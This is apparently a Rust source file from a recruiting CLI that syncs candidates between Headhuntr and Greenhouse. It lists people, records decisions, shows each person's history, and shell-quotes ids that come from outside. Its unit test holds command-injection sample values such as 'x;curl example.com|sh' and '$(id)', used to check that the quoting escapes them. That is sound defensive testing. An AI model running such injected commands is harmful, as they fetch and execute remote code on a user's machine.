//! Who needs a person, what is decided about them, and what was tried for them.

use super::whole::whole;
use crate::args;
use crate::exit::Status;
use crate::output::{Columns, Output, counted, in_people, in_words, local};
use engine::Engine;
use engine::call::{Decision, PeopleFilter};
use engine::error::{Code, Error, Place, Words};
use engine::table::Form;
use engine::view::{Choice, MadePage, MadeRow, PeoplePage, PersonHistory, PersonState};

/// Lists people with what holds them.
pub(super) async fn people(
    engine: &Engine,
    which: &args::People,
    output: Output,
) -> Result<Status, Error> {
    let filter = if which.needs_you {
        PeopleFilter::NeedsYou
    } else {
        PeopleFilter::All
    };
    let (rows, total) = whole(async |offset, limit| {
        let page = engine
            .list_people(&which.search, filter, offset, limit)
            .await?;
        Ok((page.rows, page.total))
    })
    .await?;
    let all = PeoplePage { rows, total };
    output.answer(&all, || people_in_lines(&all));
    Ok(Status::Done)
}

fn people_in_lines(page: &PeoplePage) -> String {
    let mut lines = Columns::default();
    for row in &page.rows {
        let job = row.job.as_deref().unwrap_or("no job");
        lines.row([&row.headhuntr_id, &row.name, &state(row.state), &job]);
        if let Some(problem) = &row.problem {
            // Where it is decided about this person, the command with their id says more than the place.
            let elsewhere = problem.place.filter(|place| *place != Place::People);
            let problem = problem.clone().in_place(elsewhere);
            lines.text(format!("  {}", in_words(&problem)));
            let ways = ways(&row.choices);
            if !ways.is_empty() {
                let id = quoted(&row.headhuntr_id);
                lines.text(format!("  $ headhuntr decide {id} {ways}"));
            }
        }
    }
    lines.text(in_people(page.total));
    lines.to_string()
}

/// Returns an id as a shell takes it for one word and nothing else: it comes from whoever handed the person over.
fn quoted(id: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
    if !id.starts_with('-') && id.chars().all(is_plain) {
        id.to_owned()
    } else {
        format!("'{}'", id.replace('\'', r"'\''"))
    }
}

/// Returns the arguments of `decide` that fit.
fn ways(choices: &[Choice]) -> String {
    let ways = choices.iter().filter_map(|choice| match choice {
        Choice::Link => Some("--use CANDIDATE"),
        Choice::GoOn => Some("--go-on"),
        Choice::Job => Some("--job JOB (`headhuntr jobs` lists them) | --without-job"),
        Choice::TryAgain | Choice::TakeIn => Some("--again"),
        Choice::LeaveOut => Some("--skip"),
        // That is no decision about the person, and its command is said with the problem.
        Choice::Mapping => None,
    });
    ways.collect::<Vec<_>>().join(" | ")
}

const fn state(state: PersonState) -> &'static str {
    match state {
        PersonState::Waiting => "waiting",
        PersonState::NeedsYou => "needs you",
        PersonState::Sending => "on the way",
        PersonState::Sent => "sent",
        PersonState::LeftOut => "left out",
    }
}

/// Decides about somebody.
pub(super) async fn decide(
    engine: &Engine,
    given: &args::Decide,
    output: Output,
) -> Result<Status, Error> {
    let person = find(engine, &given.person).await?;
    let page = engine.decide_person(person, decision(given)).await?;
    output.answer(&page, || people_in_lines(&page));
    Ok(Status::Done)
}

fn decision(given: &args::Decide) -> Decision {
    let by_id = given
        .candidate
        .map(|candidate| Decision::Link { candidate })
        .or_else(|| given.job.map(|job| Decision::UseJob { job: Some(job) }));
    by_id.unwrap_or({
        if given.without_job {
            Decision::UseJob { job: None }
        } else if given.go_on {
            Decision::GoOn
        } else if given.again {
            Decision::TryAgain
        } else {
            Decision::LeaveOut
        }
    })
}

/// Finds somebody by Headhuntr's id of them.
async fn find(engine: &Engine, headhuntr_id: &str) -> Result<i64, Error> {
    engine.find_person(headhuntr_id).await?.ok_or_else(|| {
        let words = Words {
            title: format!("Nobody here has the id {headhuntr_id}"),
            why: "People are known by Headhuntr's own id of them, exactly as it was handed over."
                .to_owned(),
            now:
                "`headhuntr people` lists everybody with their id; add a part of a name to search."
                    .to_owned(),
        };
        Error::saying(Code::NotFound, words)
    })
}

/// Shows everything that was tried for somebody.
pub(super) async fn history(
    engine: &Engine,
    person: &str,
    output: Output,
) -> Result<Status, Error> {
    let person = find(engine, person).await?;
    let history = engine.person_history(person).await?;
    output.answer(&history, || history_in_lines(&history));
    Ok(Status::Done)
}

fn history_in_lines(history: &PersonHistory) -> String {
    let mut lines = Columns::default();
    lines.text(history.name.as_str());
    for change in &history.changes {
        let (what, acting, state) = (&change.what, &change.acting, &change.state);
        lines.text(format!("{what} as {acting}: {state}"));
        for attempt in &change.attempts {
            let request = attempt.request_id.as_deref().unwrap_or("");
            lines.row([
                &format!("  {}", local(attempt.started_at)),
                &attempt.request,
                &attempt.outcome,
                &request,
            ]);
        }
        if let Some(receipt) = &change.receipt {
            lines.text(format!("  {}  {}", local(receipt.at), ids(receipt)));
        }
        if let Some(problem) = &change.problem {
            lines.text(format!("  {}", in_words(problem)));
        }
    }
    lines.to_string()
}

fn ids(row: &MadeRow) -> String {
    let how = match (row.found, row.joined) {
        (true, _) => "found: ",
        (false, true) => "the person was there before: ",
        (false, false) => "",
    };
    format!("{how}{}", row.ids)
}

/// Lists what was made in Greenhouse.
pub(super) async fn undo(
    engine: &Engine,
    how: &args::Made,
    output: Output,
) -> Result<Status, Error> {
    if how.csv {
        output.text(&engine.made_table(Form::Printed).await?.text);
    } else {
        let made = everything_made(engine).await?;
        output.answer(&made, || made_in_lines(&made));
    }
    Ok(Status::Done)
}

async fn everything_made(engine: &Engine) -> Result<MadePage, Error> {
    let (rows, total) = whole(async |offset, limit| {
        let page = engine.list_made(offset, limit).await?;
        Ok((page.rows, page.total))
    })
    .await?;
    Ok(MadePage { rows, total })
}

fn made_in_lines(made: &MadePage) -> String {
    let mut lines = Columns::default();
    for row in &made.rows {
        let page = row.link.as_deref().unwrap_or("");
        lines.row([&local(row.at), &row.name, &row.what, &ids(row), &page]);
    }
    lines.text(format!(
        "{} made in Greenhouse. This app may not delete: remove what is wrong there.",
        counted(made.total, "thing was", "things were")
    ));
    lines.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whoever_asks_for_a_job_is_told_where_they_are_listed() {
        assert_eq!(
            ways(&[Choice::Job, Choice::TryAgain, Choice::LeaveOut]),
            "--job JOB (`headhuntr jobs` lists them) | --without-job | --again | --skip",
            "all that fits, in the order of likelihood"
        );
        assert_eq!(ways(&[Choice::Mapping]), "", "that is done elsewhere");
    }

    #[test]
    fn an_id_from_outside_is_one_word_to_a_shell() {
        for (id, expected) in [
            ("hh-1.a_b", "hh-1.a_b"),
            ("x;curl example.com|sh", "'x;curl example.com|sh'"),
            ("it's", r"'it'\''s'"),
            ("--all", "'--all'"),
            ("$(id)", "'$(id)'"),
        ] {
            assert_eq!(quoted(id), expected, "{id}");
        }
    }
}
